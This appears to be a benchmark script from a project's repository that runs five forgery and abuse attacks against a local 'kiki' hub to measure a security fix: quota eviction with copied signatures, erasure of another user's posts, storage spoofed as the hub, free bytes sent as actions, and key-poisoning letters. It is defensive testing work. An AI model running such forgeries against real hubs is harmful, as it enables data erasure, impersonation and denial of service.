/**
 * Issue 10's five attacks against a running hub, over HTTP only, in kiki's default region (whose
 * private key is public, so "a member" means anyone). The same script runs against main (before)
 * and this branch (after); docs/reliability.md "## Trust: attacks before and after" has the figures.
 *
 *   npm run build && node dist/bench/trust-attacks.js --url http://127.0.0.1:18100 --admin <ADMIN_TOKEN> [--policy v1|v2-for-quota|v2-required] [--seal v1]
 *
 * It lowers the region's default quota to --limit bytes (default 50,000) so that attack 1 needs a
 * few dozen forged envelopes rather than the issue's 1,100; everything else is as the issue tried it.
 */
import { parseArgs } from 'node:util';
import {
  DEFAULT_REGION,
  type Envelope,
  generateKeyPair,
  type KeyPair,
  keyPairToJson,
  RegionValidator,
  seal as sealV2,
} from '@kiki/crypto';
import { forgePublicLetter, junkWithCopiedSignature } from '../test/support/forge';

const { values } = parseArgs({
  options: {
    url: { type: 'string', default: 'http://127.0.0.1:18100' },
    admin: { type: 'string' },
    policy: { type: 'string' },
    limit: { type: 'string', default: '50000' },
    wait: { type: 'string', default: '5000' },
    // v1 for a hub that predates envelope v2 (main before issue 10 refuses the unknown field)
    seal: { type: 'string', default: 'v2' },
  },
});
const sealAs = values.seal === 'v1' ? 'v1' : 'v2';
const seal: typeof sealV2 = (input, sender, regionPublic, opts = {}) => sealV2(input, sender, regionPublic, { ...opts, version: sealAs });
const hub = values.url as string;
const region: KeyPair = DEFAULT_REGION;
const base = `${hub}/r/${region.public}`;
const limit = Number(values.limit);
const waitMs = Number(values.wait);
const minutes = (n: number) => new Date(Date.now() + n * 60_000);
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function gql(query: string, variables: Record<string, unknown>): Promise<any> {
  const res = await fetch(`${hub}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${values.admin}` },
    body: JSON.stringify({ query, variables }),
  });
  const body = (await res.json()) as { data?: unknown; errors?: Array<{ message: string }> };
  if (body.errors) throw new Error(body.errors.map((e) => e.message).join('; '));
  return body.data;
}

async function upload(env: unknown): Promise<{ status: string; message?: string; error?: string }> {
  const res = await fetch(`${base}/envelope`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(env) });
  return (await res.json()) as { status: string; message?: string; error?: string };
}
const storedOk = (r: { status: string; message?: string }) => r.status === 'ok' && !r.message;
async function served(id: string): Promise<boolean> {
  return ((await (await fetch(`${base}/download/${id}`)).json()) as { status: string }).status === 'ok';
}
async function list(person: KeyPair): Promise<{ ids: string[]; personal_key: string; personal_signature: string }> {
  const sig = new RegionValidator(region).signFor(person);
  return (await (await fetch(`${base}/list?user_pub=${person.public}&signature=${encodeURIComponent(sig)}`)).json()) as {
    ids: string[];
    personal_key: string;
    personal_signature: string;
  };
}
async function count(envs: Envelope[], pred: (e: Envelope) => Promise<boolean>): Promise<number> {
  let n = 0;
  for (const e of envs) if (await pred(e)) n++;
  return n;
}

async function main(): Promise<void> {
  await gql('mutation($r: String!, $b: Float) { setQuotaPolicy(region: $r, defaultBytes: $b) { defaultBytes } }', { r: region.public, b: limit });
  if (values.policy) {
    const m = { v1: 'V1', 'v2-for-quota': 'V2_FOR_QUOTA', 'v2-required': 'V2_REQUIRED' }[values.policy as string];
    await gql('mutation($r: String!, $p: SenderPolicy!) { setSenderPolicy(region: $r, policy: $p) { policy } }', { r: region.public, p: m });
  }
  const rows: Array<Record<string, string>> = [];
  const mallory = generateKeyPair();

  // 1. eviction by forgery
  const victim = generateKeyPair();
  const posts = Array.from({ length: 10 }, (_, i) => seal({ purpose: 'share-text', content: `post ${i} ${'x'.repeat(200)}`, recipients: [region.public] }, victim, region.public));
  for (const p of posts) await upload(p);
  const forgeries = Math.ceil((limit * 1.5) / 4900);
  let accepted = 0;
  for (let i = 0; i < forgeries; i++) if (storedOk(await upload(junkWithCopiedSignature(posts[0], 3600, minutes(10))))) accepted++;
  await sleep(waitMs);
  rows.push({ attack: '1 eviction by forgery', tried: `10 real posts, then ${forgeries} × 4.9 KB forged (copied v1 signature, +10 min)`, result: `forged stored: ${accepted}/${forgeries}; real posts still served: ${await count(posts, (p) => served(p.id))}/10` });

  // 2. erase by forgery
  const bob = generateKeyPair();
  const bobPosts = Array.from({ length: 3 }, (_, i) => seal({ purpose: 'share-text', content: `bob ${i}`, recipients: [region.public] }, bob, region.public));
  for (const p of bobPosts) await upload(p);
  const erase = await upload(forgePublicLetter(bob.public, region, { purpose: 'action-erase' }, minutes(14)));
  await sleep(waitMs);
  const repush = await upload(bobPosts[0]);
  const after = seal({ purpose: 'share-text', content: 'bob after', recipients: [region.public] }, bob, region.public, { now: minutes(1) });
  await upload(after);
  await sleep(waitMs);
  rows.push({
    attack: '2 erase by forgery',
    tried: 'public action-erase "from" Bob, sealed with the region key, +14 min',
    result: `erase ${storedOk(erase) ? 'stored' : 'refused'}; Bob's posts still served: ${await count(bobPosts, (p) => served(p.id))}/3; re-push: ${repush.message ?? repush.status}; post sent 1 min later served: ${await served(after.id)}`,
  });

  // 3. unlimited storage as the hub
  const l = await list(mallory);
  const hubKey = { public: l.personal_key, private: '' };
  const handedOut = new RegionValidator(region).validateSignature(l.personal_key, l.personal_signature);
  const hubSig = handedOut ? l.personal_signature : new RegionValidator(region).signFor(hubKey);
  let asHub = 0;
  for (let i = 0; i < 16; i++) {
    const junk = junkWithCopiedSignature({ ...posts[0], sender: { public: l.personal_key }, signature: hubSig }, 384 * 1024 - 64, new Date());
    if (storedOk(await upload(junk))) asHub++;
  }
  rows.push({ attack: '3 storage as the hub', tried: '/list as a throwaway key, then 16 × 384 KiB junk sent as the hub', result: `/list handed out a valid hub signature: ${handedOut}; stored as the hub: ${asHub}/16` });

  // 4. free bytes as actions
  const liker = generateKeyPair();
  let free = 0;
  for (let i = 0; i < 20; i++) {
    const fat = seal({ purpose: 'action-like', content: 'l'.repeat(100_000) + i, recipients: [region.public] }, liker, region.public);
    if (storedOk(await upload(fat))) free++;
  }
  rows.push({ attack: '4 free bytes as actions', tried: '20 × 100 KB action-like letters', result: `stored: ${free}/20` });

  // 5. poison for original clients
  const carol = generateKeyPair();
  const carolPost = seal({ purpose: 'share-text', content: 'carol', recipients: [region.public] }, carol, region.public);
  await upload(carolPost);
  const poison = [
    forgePublicLetter(mallory.public, region, { purpose: 'share-key', content: '{"public":"broken"}' }, new Date()),
    forgePublicLetter(mallory.public, region, { purpose: 'share-key', content: keyPairToJson({ public: carol.public, private: generateKeyPair().private }) }, new Date()),
    seal({ purpose: 'share-text', content: 'not what carol said', first_id: carolPost.id, recipients: [region.public] }, mallory, region.public),
    seal({ purpose: 'action-follow', content: 'nobody', recipients: [region.public] }, mallory, region.public),
  ];
  let poisoned = 0;
  for (const p of poison) if (storedOk(await upload(p))) poisoned++;
  const listed = new Set((await list(mallory)).ids);
  rows.push({ attack: '5 poison', tried: 'malformed public share-key, public share-key with Carol\'s key, edit of Carol\'s post, follow of "nobody"', result: `stored: ${poisoned}/4; served in /list: ${poison.filter((p) => listed.has(p.id)).length}/4` });

  console.log(`hub ${hub}, region ${region.public}, limit ${limit} bytes, policy ${values.policy ?? '(not set)'}, envelopes sealed ${sealAs}`);
  console.table(rows);
}

main().then(
  () => process.exit(0),
  (err) => {
    console.error(err);
    process.exit(1);
  },
);
